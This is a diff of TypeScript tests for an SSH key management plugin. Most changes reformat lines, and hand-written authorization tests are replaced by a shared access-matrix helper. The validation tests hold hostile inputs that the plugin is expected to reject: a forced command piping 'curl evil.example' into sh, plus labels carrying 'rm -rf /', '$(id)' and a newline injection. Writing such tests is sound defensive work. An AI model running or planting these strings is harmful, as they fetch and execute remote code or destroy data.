@@ -4,7 +4,15 @@
  * with the machine's `ssh-keygen -l` where it is installed.
  */
 import { execFileSync } from 'node:child_process';
-import { Cluster, ClusterAdministrator, demoLogins, Server, startPluginPortal, User, type PluginPortal, type SeededCluster, type TestClient, type TestServer } from '@portal/plugin-sdk/testing';
+import {
+  describeAccessMatrix,
+  Server,
+  startPluginPortal,
+  type PluginPortal,
+  type SeededCluster,
+  type TestClient,
+  type TestServer,
+} from '@portal/plugin-sdk/testing';
 import type { Operations } from '../generated/operations.ts';
 import { testFingerprints, testKeys } from './testKeys.ts';
 
@@ -20,10 +28,7 @@ const hasSshKeygen = (() => {
 let ssh: PluginPortal<Operations>;
 let server: TestServer;
 let admin: TestClient;
-let manager: TestClient;
-let other: TestClient;
 let shop: SeededCluster;
-let staging: SeededCluster;
 let web: number;
 
 const base = (clusterId: number, serverId: number) => ssh.base(clusterId, serverId);
@@ -31,7 +36,6 @@ const keys = (sub = '') => `${base(shop.id, web)}/ssh/keys${sub}`;
 const deployFile = '/home/deploy/.ssh/authorized_keys';
 const developerFile = '/home/developer/.ssh/authorized_keys';
 const good = { user: 'developer' as const, label: 'Jonas laptop', publicKey: testKeys.ecdsab384 };
-const clusterByNumber = (c: TestClient, number: string) => ssh.clusterByNumber(c, number);
 const finished = (jobId: number) => ssh.waitForJob(jobId);
 
 /** Sends a change, expects 202, waits for its job to succeed. */
@@ -50,12 +54,12 @@ const changeCount = async () => (await admin.get(`${base(shop.id, web)}/managed/
 
 /** This plugin alone (another plugin's state must not matter here) on web01 of the shop cluster, with its demo keys. */
 beforeAll(async () => {
-  ssh = await startPluginPortal<Operations>(() => import('../plugin.ts'), { cluster: '20011', server: (s) => s.role === 'web' && s.name.startsWith('web01') });
+  ssh = await startPluginPortal<Operations>(() => import('../plugin.ts'), {
+    cluster: '20011',
+    server: (s) => s.role === 'web' && s.name.startsWith('web01'),
+  });
   ({ portal: server, admin, cluster: shop } = ssh);
   web = ssh.server.id;
-  manager = await ssh.signIn(demoLogins.manager);
-  other = await ssh.signIn(demoLogins.other);
-  staging = await clusterByNumber(manager, '20012');
 });
 afterAll(() => ssh?.stop());
 
@@ -65,16 +69,29 @@ describe('R2.031 ssh keys', () => {
     expect(r.status).toBe(200);
     expect(r.body.users).toEqual(['deploy', 'developer']);
     const anna = r.body.data.find((k: { label: string }) => k.label === 'Anna Berger (Laptop)');
-    expect(anna).toMatchObject({ user: 'deploy', type: 'ssh-ed25519', bits: 256, fingerprint: 'SHA256:gu+hiQ5Qxb9foxUku3nlKptnTrHPF+3c3ZTFsDJSxt0' });
+    expect(anna).toMatchObject({
+      user: 'deploy',
+      type: 'ssh-ed25519',
+      bits: 256,
+      fingerprint: 'SHA256:gu+hiQ5Qxb9foxUku3nlKptnTrHPF+3c3ZTFsDJSxt0',
+    });
     expect(anna.publicKey).toMatch(/^ssh-ed25519 AAAA\S+$/);
-    expect(r.body.data.find((k: { type: string }) => k.type === 'ssh-rsa')).toMatchObject({ bits: 4096, fingerprint: 'SHA256:SxjPRzZUWKLBx4/7wr4pVZ8JkIvxNB0PqaO0JuwHbYc' });
+    expect(r.body.data.find((k: { type: string }) => k.type === 'ssh-rsa')).toMatchObject({
+      bits: 4096,
+      fingerprint: 'SHA256:SxjPRzZUWKLBx4/7wr4pVZ8JkIvxNB0PqaO0JuwHbYc',
+    });
   });
 
   it('R2.031 inspect reads a key without storing it: type, bits, fingerprint, a label from its comment', async () => {
     const before = (await list()).length;
     const r = await admin.request('POST', keys('/inspect'), { publicKey: testKeys.rsab3072 });
     expect(r.status).toBe(200);
-    expect(r.body).toEqual({ type: 'ssh-rsa', bits: 3072, fingerprint: testFingerprints.rsab3072.fingerprint, suggestedLabel: 'test@rsab3072' });
+    expect(r.body).toEqual({
+      type: 'ssh-rsa',
+      bits: 3072,
+      fingerprint: testFingerprints.rsab3072.fingerprint,
+      suggestedLabel: 'test@rsab3072',
+    });
     const bad = await admin.request('POST', keys('/inspect'), { publicKey: testKeys.rsab2048 });
     expect(bad.status).toBe(422);
     expect(bad.body.error.fields.publicKey).toEqual(['ssh:errors.rsa_too_short']);
@@ -91,9 +108,20 @@ describe('R2.031 ssh keys', () => {
     expect(content).toContain(`${testKeys.ecdsab384.split(' ').slice(0, 2).join(' ')} Jonas laptop\n`);
     expect(content).not.toContain('some-comment');
     const added = (await list()).find((k) => k.label === 'Jonas laptop');
-    expect(added).toMatchObject({ user: 'developer', type: 'ecdsa-sha2-nistp384', bits: 384, fingerprint: testFingerprints.ecdsab384.fingerprint });
+    expect(added).toMatchObject({
+      user: 'developer',
+      type: 'ecdsa-sha2-nistp384',
+      bits: 384,
+      fingerprint: testFingerprints.ecdsab384.fingerprint,
+    });
     const change = (await admin.get(`${base(shop.id, web)}/managed/changes?plugin=ssh`)).body.data[0];
-    expect(change).toMatchObject({ status: 'applied', summary: { key: 'ssh:changes.created', values: { user: 'developer', label: 'Jonas laptop', fingerprint: testFingerprints.ecdsab384.fingerprint } } });
+    expect(change).toMatchObject({
+      status: 'applied',
+      summary: {
+        key: 'ssh:changes.created',
+        values: { user: 'developer', label: 'Jonas laptop', fingerprint: testFingerprints.ecdsab384.fingerprint },
+      },
+    });
     expect((await admin.get(`${base(shop.id, web)}/ssh/files`)).body.applied).toBe(true);
   });
 
@@ -102,9 +130,19 @@ describe('R2.031 ssh keys', () => {
     ['R2.031 RSA with 2048 bits', { publicKey: testKeys.rsab2048 }, 'publicKey', 'ssh:errors.rsa_too_short'],
     ['a DSA key', { publicKey: testKeys.dsa }, 'publicKey', 'ssh:errors.type_not_allowed'],
     ['a security key', { publicKey: testKeys.sk }, 'publicKey', 'ssh:errors.type_not_allowed'],
-    ['a private key', { publicKey: '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjE=\n-----END OPENSSH PRIVATE KEY-----' }, 'publicKey', 'ssh:errors.private_key'],
+    [
+      'a private key',
+      { publicKey: '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjE=\n-----END OPENSSH PRIVATE KEY-----' },
+      'publicKey',
+      'ssh:errors.private_key',
+    ],
     ['two keys in one', { publicKey: `${testKeys.ed25519}\n${testKeys.ecdsab256}` }, 'publicKey', 'ssh:errors.multiple_lines'],
-    ['a forced command', { publicKey: `command="curl evil.example | sh" ${testKeys.ed25519}` }, 'publicKey', 'ssh:errors.options_not_allowed'],
+    [
+      'a forced command',
+      { publicKey: `command="curl evil.example | sh" ${testKeys.ed25519}` },
+      'publicKey',
+      'ssh:errors.options_not_allowed',
+    ],
     ['a newline in the label', { label: 'x\ncommand="id" ssh-ed25519 AAAA' }, 'label', 'validation.pattern'],
     ['a semicolon in the label', { label: 'a; rm -rf /' }, 'label', 'validation.pattern'],
     ['a dollar in the label', { label: '$(id)' }, 'label', 'validation.pattern'],
@@ -127,11 +165,20 @@ describe('R2.031 ssh keys', () => {
 
   it('R2.031 refuses a duplicate (the same key material for the same user, whatever its comment), allows it for another user', async () => {
     await applied('POST', keys(), { user: 'deploy', label: 'Shared key', publicKey: testKeys.ed25519 });
-    const again = await admin.request('POST', keys(), { user: 'deploy', label: 'Again', publicKey: testKeys.ed25519.replace('test@ed25519', 'other comment') });
+    const again = await admin.request('POST', keys(), {
+      user: 'deploy',
+      label: 'Again',
+      publicKey: testKeys.ed25519.replace('test@ed25519', 'other comment'),
+    });
     expect(again.status).toBe(422);
     expect(again.body.error.fields.publicKey).toEqual(['ssh:errors.duplicate']);
     await applied('POST', keys(), { user: 'developer', label: 'Shared key', publicKey: testKeys.ed25519 });
-    expect((await list()).filter((k) => k.fingerprint === testFingerprints.ed25519.fingerprint).map((k) => k.user).sort()).toEqual(['deploy', 'developer']);
+    expect(
+      (await list())
+        .filter((k) => k.fingerprint === testFingerprints.ed25519.fingerprint)
+        .map((k) => k.user)
+        .sort(),
+    ).toEqual(['deploy', 'developer']);
   });
 
   it('rename: the label (the comment in the file) changes; a bad label is 422', async () => {
@@ -152,7 +199,10 @@ describe('R2.031 ssh keys', () => {
     await applied('DELETE', keys(`/${last.id}`));
     expect(await file(developerFile)).toBeNull();
     expect(await file(deployFile)).toContain('Anna Berger (Laptop)');
-    expect((await admin.get(`${base(shop.id, web)}/managed/changes?plugin=ssh`)).body.data[0].summary).toMatchObject({ key: 'ssh:changes.deleted', values: { user: 'developer', label: last.label } });
+    expect((await admin.get(`${base(shop.id, web)}/managed/changes?plugin=ssh`)).body.data[0].summary).toMatchObject({
+      key: 'ssh:changes.deleted',
+      values: { user: 'developer', label: last.label },
+    });
 
     const rb = await admin.request('POST', `${base(shop.id, web)}/managed/plugins/ssh/rollback`);
     expect(rb.status).toBe(202);
@@ -187,53 +237,10 @@ describe('R2.031 ssh keys', () => {
       await em.nativeUpdate(Server, { id: web02 }, { services });
     }
   });
+});
 
-  describe('authorization', () => {
-    const operations = (clusterId: number, serverId: number): [string, string, unknown?][] => [
-      ['GET', `${base(clusterId, serverId)}/ssh/keys`],
-      ['POST', `${base(clusterId, serverId)}/ssh/keys`, { ...good, publicKey: testKeys.ecdsab521 }],
-      ['POST', `${base(clusterId, serverId)}/ssh/keys/inspect`, { publicKey: testKeys.ecdsab521 }],
-      ['GET', `${base(clusterId, serverId)}/ssh/files`],
-      ['POST', `${base(clusterId, serverId)}/ssh/apply`],
-      ['PATCH', `${base(clusterId, serverId)}/ssh/keys/1`, { label: 'x' }],
-      ['DELETE', `${base(clusterId, serverId)}/ssh/keys/1`],
-    ];
-    const call = (c: TestClient, [method, url, body]: [string, string, unknown?], headers?: Record<string, string>) => c.request(method, url, body, headers);
-
-    it('R6.004 anonymous callers get 401 for every operation', async () => {
-      for (const op of operations(shop.id, web)) expect([op[1], (await call(server.client(), op)).status]).toEqual([op[1], 401]);
-    });
-
-    it('R6.004 the administrator of another cluster gets 404 (the cluster is not visible)', async () => {
-      const own = await clusterByNumber(other, '20031');
-      const em = server.db.orm.em.fork();
-      const user = await em.findOneOrFail(User, { email: demoLogins.other });
-      em.create(ClusterAdministrator, { cluster: em.getReference(Cluster, own.id), user } as ClusterAdministrator);
-      await em.flush();
-      expect((await other.get(`${base(own.id, own.servers[0].id)}/ssh/keys`)).status).toBe(200);
-      for (const op of operations(shop.id, web)) {
-        const r = await call(other, op);
-        expect([op[1], r.status, r.body.error.message]).toEqual([op[1], 404, 'errors.cluster_not_found']);
-      }
-    });
-
-    it('R6.004 a manager of the customer without the administrator role gets 403', async () => {
-      for (const op of operations(staging.id, staging.servers[0].id)) {
-        const r = await call(manager, op);
-        expect([op[1], r.status, r.body.error.message]).toEqual([op[1], 403, 'errors.managed_administrators_only']);
-      }
-    });
-
-    it('R6.004 a personal access token for another cluster is refused; one for this cluster works', async () => {
-      const token = async (clusters: number[]) => {
-        const r = await manager.request('POST', '/api/v1/me/personal-access-tokens', { name: `ssh ${clusters.join()}`, expires: 0, expires_at: null, abilities: { global: false, clusters } });
-        expect(r.status).toBe(201);
-        return { Authorization: `Bearer ${r.body.plainTextToken}` };
-      };
-      const forStaging = await token([staging.id]);
-      for (const op of operations(shop.id, web)) expect([op[1], (await call(server.client(), op, forStaging)).status]).toEqual([op[1], 403]);
-      const forShop = await token([shop.id]);
-      expect((await server.client().request('GET', keys(), undefined, forShop)).status).toBe(200);
-    });
-  });
+describeAccessMatrix(() => ssh, {
+  createSshKey: { body: { ...good, publicKey: testKeys.ecdsab521 } },
+  inspectSshKey: { body: { publicKey: testKeys.ecdsab521 } },
+  updateSshKey: { body: { label: 'x' } },
 });
